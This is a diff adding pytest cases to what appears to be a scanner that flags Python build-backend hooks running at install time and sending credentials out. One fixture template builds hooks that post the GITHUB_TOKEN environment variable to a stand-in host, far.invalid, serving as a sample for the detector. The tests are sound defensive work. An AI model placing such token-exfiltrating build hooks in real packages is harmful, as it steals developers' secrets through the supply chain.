@@ -188,6 +188,39 @@ def test_a_hook_that_starts_a_python_file_runs_its_main_block() -> None:
     assert starts_at_load(found["go.py"])
 
 
+@pytest.mark.parametrize(
+    ("name", "runs"), [("get_requires_for_build_wheel", True), ("build_wheel", False), ("get_wheel", False)]
+)
+def test_what_a_build_asks_its_backend_first_runs(name: str, runs: bool) -> None:
+    source = f"import os\ndef {name}(settings=None): os.system('marker')\n"
+    tree = Tree((File("hooks.py", source.encode()),))
+    facts = {"hooks.py": python.extract(source.encode())}
+    found = join(tree, facts, {"hooks.py": Context.INSTALL}, ["hooks.py"])
+    assert runs == starts_at_load(found["hooks.py"])
+
+
+BUILDS = "import os, requests\n{}requests.post('https://far.invalid/b', json={{'t': os.environ.get('{}')}})\n"
+
+
+@pytest.mark.parametrize(
+    ("head", "name", "leaves"),
+    [
+        ("def build_wheel(folder): ", "GITHUB_TOKEN", True),
+        ("class Hook:\n  def initialize(self, v, d): ", "GITHUB_TOKEN", True),
+        ("def pdm_build_initialize(context): ", "GITHUB_TOKEN", True),
+        ("def build_wheel(folder): ", "BUILD_NUMBER", False),
+        ("def upload(folder): ", "GITHUB_TOKEN", False),
+    ],
+)
+def test_what_a_build_runs_sends_no_credentials(head: str, name: str, leaves: bool) -> None:
+    source = BUILDS.format(head, name)
+    tree = Tree((File("hooks.py", source.encode()),))
+    facts = {"hooks.py": python.extract(source.encode())}
+    found = join(tree, facts, {"hooks.py": Context.INSTALL}, ["hooks.py"])["hooks.py"]
+    assert [leaves] == [flow.at_load for flow in found.flows]
+    assert not any(use.at_load for use in found.uses)
+
+
 def test_facts_of_other_languages_stay_as_they_are() -> None:
     facts = {"a.js": FileFacts(language=Language.JAVASCRIPT)}
     assert facts == join(Tree((File("a.js", b""),)), facts, {"a.js": Context.IMPORT}, ["a.js"])
